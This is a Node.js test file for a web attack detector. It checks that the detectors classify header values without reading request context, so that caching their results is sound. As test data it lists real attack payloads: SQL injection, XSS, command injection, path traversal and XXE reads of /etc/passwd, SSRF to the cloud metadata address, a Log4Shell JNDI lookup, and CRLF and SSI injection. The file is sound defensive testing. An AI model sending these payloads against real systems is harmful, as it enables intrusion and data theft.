import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import { DETECTORS, HEADER_CONTEXT, HeaderContextRead, type Detector } from '../../../node/analysis/attacks/detectors/index';
import { decodeVariants } from '../../../node/analysis/attacks/decode/variants';
import { Budget, DEFAULT_ATTACK_LIMITS } from '../../../node/analysis/attacks/budget';
import type { RequestValue } from '../../../node/analysis/attacks/points/types';
import { RELAXED, tx } from './helpers';

/**
 * The header cache (docs/detection.md) keys a header's hits by name and value only. That holds
 * while no detector reads the request context (Host, User-Agent tool, path) for a header value:
 * detectors get HEADER_CONTEXT there, which throws when read. These tests run every detector on
 * header values that reach each detector's decision, so a detector that starts reading the
 * context for headers fails here.
 */
const HEADER_NAMES = [
  'user-agent',
  'referer',
  'origin',
  'host',
  'x-forwarded-host',
  'x-forwarded-for',
  'x-api-version',
  'x-url',
  'x-callback',
  'accept',
  'authorization',
];
const VALUES = [
  "' OR 1=1--",
  '1 UNION SELECT password FROM users',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '; cat /etc/passwd',
  '$(id)',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:8080/admin',
  'https://evil.example/login',
  '//evil.example',
  '{{7*7}}',
  '${jndi:ldap://x.oast.fun/a}',
  '*)(uid=*))(|(uid=*',
  '{"$ne": null}',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  'a%0d%0aSet-Cookie: x=1',
  'x@example.com%0aBcc: y@example.com',
  '<!--#exec cmd="id"-->',
  'sqlmap/1.7.2#stable (https://sqlmap.org)',
  'Nikto/2.5.0',
  'abc.burpcollaborator.net',
  'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36',
  'shop.example',
  '/admin/config.php',
];

function headerValue(name: string, value: string): RequestValue {
  return { point: ['header', name], kind: 'header', name, value };
}

test('no detector reads the request context for a header value (so caching by name and value is sound)', () => {
  let tested = 0;
  for (const name of HEADER_NAMES) {
    for (const value of VALUES) {
      const v = headerValue(name, value);
      const forms = decodeVariants(value, new Budget(DEFAULT_ATTACK_LIMITS));
      for (const d of DETECTORS) {
        if (!d.applies(v)) continue;
        forms.forEach((form, i) => {
          assert.doesNotThrow(() => d.test(form, v, HEADER_CONTEXT, i === forms.length - 1), `${d.cls} on ${name}: ${form}`);
          tested++;
        });
      }
    }
  }
  assert.ok(tested > 1000, `only ${tested} detector runs`);
});

test('a detector that reads the context for a header fails loudly (the check above can fail)', () => {
  const breaksTheRule: Detector = { cls: 'redir', gate: null, applies: () => true, test: (t, _v, ctx) => !ctx.hosts.includes(t) };
  assert.throws(
    () => breaksTheRule.test('evil.example', headerValue('x-url', 'evil.example'), HEADER_CONTEXT, true),
    HeaderContextRead,
  );
  for (const field of ['hosts', 'toolAgent', 'path'] as const) assert.throws(() => HEADER_CONTEXT[field], HeaderContextRead);
});

test('a cached header gives the same hits as a fresh detector, whatever the rest of the request', () => {
  const cached = new AttackDetector(RELAXED);
  const headers = (host: string): Array<[string, string]> => [
    ['Host', host],
    ['User-Agent', 'sqlmap/1.7.2#stable'],
    ['X-Url', 'http://169.254.169.254/'],
    ['X-Q', "' OR 1=1--"],
  ];
  const first = cached.detect(tx({ target: '/a?next=//evil.example', headers: headers('shop.example') }));
  for (const [host, target] of [
    ['evil.example', '/login'],
    ['other.example', '/admin/config.php?x=1'],
  ]) {
    const again = cached.detect(tx({ target, headers: headers(host) }));
    const fresh = new AttackDetector(RELAXED).detect(tx({ target, headers: headers(host) }));
    const onHeaders = (r: typeof first) => r?.hits.filter((h) => h.point[0] === 'header');
    assert.deepEqual(onHeaders(again), onHeaders(fresh), `${host}${target}`);
    assert.deepEqual(onHeaders(again), onHeaders(first));
  }
  assert.equal(cached.counters.internalErrors, 0);
});
